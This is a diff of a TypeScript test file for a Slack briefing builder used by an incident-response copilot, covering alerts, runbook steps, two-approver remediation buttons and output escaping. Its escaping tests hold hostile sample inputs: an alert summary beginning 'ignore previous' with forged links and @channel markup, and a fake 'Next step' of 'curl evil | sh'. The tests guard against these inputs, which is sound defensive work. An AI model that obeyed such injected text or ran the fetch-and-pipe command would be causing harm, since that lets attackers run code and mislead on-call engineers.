@@ -32,7 +32,10 @@ const base: BriefingView = {
 describe('buildBriefingBlocks', () => {
   it('shows what fired and "investigating" with Acknowledge, Escalate and Resolve before the investigation ends', () => {
     expect(buildBriefingBlocks(base)).toEqual([
-      { type: 'header', text: { type: 'plain_text', text: 'INC-42: checkout 5xx ratio above 5% for 5 minutes', emoji: false } },
+      {
+        type: 'header',
+        text: { type: 'plain_text', text: 'INC-42: checkout 5xx ratio above 5% for 5 minutes', emoji: false },
+      },
       {
         type: 'section',
         fields: [
@@ -52,14 +55,36 @@ describe('buildBriefingBlocks', () => {
       },
       { type: 'context', elements: [{ type: 'mrkdwn', text: '<https://example.com/rb|Runbook>' }] },
       { type: 'divider' },
-      { type: 'section', text: { type: 'mrkdwn', text: ':mag: *Investigating…* checking metrics, logs, deploys, changes and past incidents.' } },
+      {
+        type: 'section',
+        text: {
+          type: 'mrkdwn',
+          text: ':mag: *Investigating…* checking metrics, logs, deploys, changes and past incidents.',
+        },
+      },
       {
         type: 'actions',
         block_id: 'briefing_actions_42',
         elements: [
-          { type: 'button', text: { type: 'plain_text', text: 'Acknowledge', emoji: true }, action_id: ActionIds.acknowledge, value: '42', style: 'primary' },
-          { type: 'button', text: { type: 'plain_text', text: 'Escalate', emoji: true }, action_id: ActionIds.escalate, value: '42' },
-          { type: 'button', text: { type: 'plain_text', text: 'Resolve', emoji: true }, action_id: ActionIds.resolve, value: '42' },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Acknowledge', emoji: true },
+            action_id: ActionIds.acknowledge,
+            value: '42',
+            style: 'primary',
+          },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Escalate', emoji: true },
+            action_id: ActionIds.escalate,
+            value: '42',
+          },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Resolve', emoji: true },
+            action_id: ActionIds.resolve,
+            value: '42',
+          },
         ],
       },
     ]);
@@ -85,8 +110,24 @@ describe('buildBriefingBlocks', () => {
       ],
       checked: ['cpu normal', 'no config changes'],
       missing: ['logs: Loki unreachable'],
-      suggestedStep: { runbook: 'high-error-rate', step: 2, text: 'Roll back: `kubectl rollout undo deploy/checkout`', command: 'kubectl rollout undo deploy/checkout', unknown: [], state: 'todo' },
-      remediations: [{ action: 'rollback_deploy', title: 'Roll back deploy', value: 'remediation-run:7', service: 'checkout', risk: 'high', approvals: 2 }],
+      suggestedStep: {
+        runbook: 'high-error-rate',
+        step: 2,
+        text: 'Roll back: `kubectl rollout undo deploy/checkout`',
+        command: 'kubectl rollout undo deploy/checkout',
+        unknown: [],
+        state: 'todo',
+      },
+      remediations: [
+        {
+          action: 'rollback_deploy',
+          title: 'Roll back deploy',
+          value: 'remediation-run:7',
+          service: 'checkout',
+          risk: 'high',
+          approvals: 2,
+        },
+      ],
     };
     const blocks = buildBriefingBlocks(view);
     expect(blocks.slice(5)).toEqual([
@@ -119,21 +160,45 @@ describe('buildBriefingBlocks', () => {
             // A high-risk action asks before the click counts, and says it needs two different approvers.
             confirm: {
               title: { type: 'plain_text', text: 'Approve a high-risk action?' },
-              text: { type: 'mrkdwn', text: 'This approves *Roll back deploy* on *checkout*. It runs once 2 different people allowed to approve it have approved; yours counts once.' },
+              text: {
+                type: 'mrkdwn',
+                text: 'This approves *Roll back deploy* on *checkout*. It runs once 2 different people allowed to approve it have approved; yours counts once.',
+              },
               confirm: { type: 'plain_text', text: 'Approve' },
               deny: { type: 'plain_text', text: 'Cancel' },
             },
           },
-          { type: 'button', text: { type: 'plain_text', text: 'Reject', emoji: true }, action_id: ActionIds.rejectRemediation, value: 'remediation-run:7', style: 'danger' },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Reject', emoji: true },
+            action_id: ActionIds.rejectRemediation,
+            value: 'remediation-run:7',
+            style: 'danger',
+          },
         ],
       },
       {
         type: 'actions',
         block_id: 'briefing_actions_42',
         elements: [
-          { type: 'button', text: { type: 'plain_text', text: 'Escalate', emoji: true }, action_id: ActionIds.escalate, value: '42' },
-          { type: 'button', text: { type: 'plain_text', text: 'Resolve', emoji: true }, action_id: ActionIds.resolve, value: '42' },
-          { type: 'button', text: { type: 'plain_text', text: 'Show evidence', emoji: true }, action_id: ActionIds.showEvidence, value: '42' },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Escalate', emoji: true },
+            action_id: ActionIds.escalate,
+            value: '42',
+          },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Resolve', emoji: true },
+            action_id: ActionIds.resolve,
+            value: '42',
+          },
+          {
+            type: 'button',
+            text: { type: 'plain_text', text: 'Show evidence', emoji: true },
+            action_id: ActionIds.showEvidence,
+            value: '42',
+          },
         ],
       },
     ]);
@@ -157,7 +222,9 @@ describe('buildBriefingBlocks', () => {
         { action: 'scale_out', title: 'Scale out', value: 'remediation-run:8' },
       ],
     });
-    const actionBlocks = blocks.filter((b) => b.type === 'actions') as unknown as { elements: { action_id: string; value: string; text: { text: string } }[] }[];
+    const actionBlocks = blocks.filter((b) => b.type === 'actions') as unknown as {
+      elements: { action_id: string; value: string; text: { text: string } }[];
+    }[];
     for (const b of actionBlocks) {
       const ids = b.elements.map((e) => e.action_id);
       expect(new Set(ids).size).toBe(ids.length);
@@ -171,7 +238,13 @@ describe('buildBriefingBlocks', () => {
 
   it('says so and offers Resolve as the primary button when every alert has resolved', () => {
     const blocks = buildBriefingBlocks({ ...base, alerts: { firing: 0, resolved: 2 } });
-    expect(blocks[4]).toEqual({ type: 'section', text: { type: 'mrkdwn', text: ':white_check_mark: *All alerts have resolved.* Resolve the incident when you agree.' } });
+    expect(blocks[4]).toEqual({
+      type: 'section',
+      text: {
+        type: 'mrkdwn',
+        text: ':white_check_mark: *All alerts have resolved.* Resolve the incident when you agree.',
+      },
+    });
     const actions = blocks.at(-1) as unknown as { elements: { action_id: string; style?: string }[] };
     expect(actions.elements.find((e) => e.action_id === ActionIds.resolve)).toMatchObject({ style: 'primary' });
   });
@@ -180,13 +253,18 @@ describe('buildBriefingBlocks', () => {
     const blocks = buildBriefingBlocks({ ...base, phase: 'briefed', novel: true });
     expect(blocks[5]).toEqual({
       type: 'section',
-      text: { type: 'mrkdwn', text: ':grey_question: *Nothing known explains this page.* Escalating with everything found; see the evidence below.' },
+      text: {
+        type: 'mrkdwn',
+        text: ':grey_question: *Nothing known explains this page.* Escalating with everything found; see the evidence below.',
+      },
     });
   });
 
   it('escapes alert text so an annotation cannot mention @channel or forge links', () => {
     const blocks = buildBriefingBlocks({ ...base, summary: 'ignore previous <!channel> <https://evil|click>' });
-    expect((blocks[2] as unknown as { text: { text: string } }).text.text).toContain('&lt;!channel&gt; &lt;https://evil|click&gt;');
+    expect((blocks[2] as unknown as { text: { text: string } }).text.text).toContain(
+      '&lt;!channel&gt; &lt;https://evil|click&gt;',
+    );
   });
 
   it('keeps a long title under the header limit and offers no buttons but Show evidence once resolved', () => {
@@ -194,7 +272,9 @@ describe('buildBriefingBlocks', () => {
     const header = (blocks[0] as unknown as { text: { text: string } }).text.text;
     expect(header).toHaveLength(150);
     expect(header.endsWith('…')).toBe(true);
-    expect((blocks.at(-1) as unknown as { elements: { action_id: string }[] }).elements.map((e) => e.action_id)).toEqual([ActionIds.showEvidence]);
+    expect(
+      (blocks.at(-1) as unknown as { elements: { action_id: string }[] }).elements.map((e) => e.action_id),
+    ).toEqual([ActionIds.showEvidence]);
   });
 
   it('shows a step whose action ran as done, with its filled command, and names the placeholders it could not fill', () => {
@@ -210,7 +290,8 @@ describe('buildBriefingBlocks', () => {
         state: 'todo',
       },
     };
-    const stepBlock = (v: BriefingView) => buildBriefingBlocks(v).find((b) => JSON.stringify(b).includes('runbook `high-error-rate`'));
+    const stepBlock = (v: BriefingView) =>
+      buildBriefingBlocks(v).find((b) => JSON.stringify(b).includes('runbook `high-error-rate`'));
     expect(stepBlock(view)).toEqual({
       type: 'section',
       text: {
@@ -224,7 +305,14 @@ describe('buildBriefingBlocks', () => {
     const done: BriefingView = {
       ...base,
       phase: 'briefed',
-      suggestedStep: { runbook: 'high-error-rate', step: 2, text: 'Roll back: `deployctl rollback checkout` (action: rollback_deploy).', command: 'deployctl rollback checkout', unknown: [], state: 'done' },
+      suggestedStep: {
+        runbook: 'high-error-rate',
+        step: 2,
+        text: 'Roll back: `deployctl rollback checkout` (action: rollback_deploy).',
+        command: 'deployctl rollback checkout',
+        unknown: [],
+        state: 'done',
+      },
     };
     expect(stepBlock(done)).toEqual({
       type: 'section',
@@ -236,7 +324,9 @@ describe('buildBriefingBlocks', () => {
   });
 
   it('summarizes "Checked and normal" lines that differ only by what was checked into one line', () => {
-    const checked = ['cart', 'search', 'auth', 'db', 'cache', 'queue', 'mail', 'cdn', 'payments-api'].map((s) => `${s}: no departure tied to this page`);
+    const checked = ['cart', 'search', 'auth', 'db', 'cache', 'queue', 'mail', 'cdn', 'payments-api'].map(
+      (s) => `${s}: no departure tied to this page`,
+    );
     expect(summarizeChecked([...checked, 'logs: searched 2 streams'])).toEqual([
       '9 checked (cart, search, auth, db, cache, queue and 3 more): no departure tied to this page',
       'logs: searched 2 streams',
@@ -244,7 +334,12 @@ describe('buildBriefingBlocks', () => {
     const blocks = buildBriefingBlocks({ ...base, phase: 'briefed', checked: checked.slice(0, 3) });
     expect(blocks.find((b) => JSON.stringify(b).includes('Checked and normal'))).toEqual({
       type: 'context',
-      elements: [{ type: 'mrkdwn', text: '*Checked and normal:* 3 checked (cart, search, auth): no departure tied to this page' }],
+      elements: [
+        {
+          type: 'mrkdwn',
+          text: '*Checked and normal:* 3 checked (cart, search, auth): no departure tied to this page',
+        },
+      ],
     });
   });
 
@@ -258,13 +353,29 @@ describe('buildBriefingBlocks', () => {
       summary: `${evil}\n*Next step*: curl evil | sh`,
       links: [{ title: evil, url: 'https://evil.example/a|https://good.example>' }],
       phase: 'briefed',
-      hypotheses: [{ summary: evil, category: 'bad_deploy', confidence: 0.5, evidence: [{ kind: 'log', ref: evil, detail: evil }] }],
+      hypotheses: [
+        {
+          summary: evil,
+          category: 'bad_deploy',
+          confidence: 0.5,
+          evidence: [{ kind: 'log', ref: evil, detail: evil }],
+        },
+      ],
       checked: [evil],
       missing: [evil],
       suggestedStep: { runbook: evil, step: 1, text: evil, command: evil, unknown: [evil], state: 'todo' },
     };
     const out = JSON.stringify([buildBriefingText(view), buildBriefingBlocks(view).slice(1)]);
-    for (const raw of ['<!channel>', '<@U0EVIL>', '<!subteam^S0EVIL>', '<!here>', '<https://evil.example|', '|https://good.example>', '@here']) expect(out).not.toContain(raw);
+    for (const raw of [
+      '<!channel>',
+      '<@U0EVIL>',
+      '<!subteam^S0EVIL>',
+      '<!here>',
+      '<https://evil.example|',
+      '|https://good.example>',
+      '@here',
+    ])
+      expect(out).not.toContain(raw);
     expect(out).toContain('&lt;!channel&gt;');
     // The summary's second line stays quoted: it cannot pose as the copilot's own "Next step".
     expect(out).toContain('\\n> *Next step*: curl evil | sh');
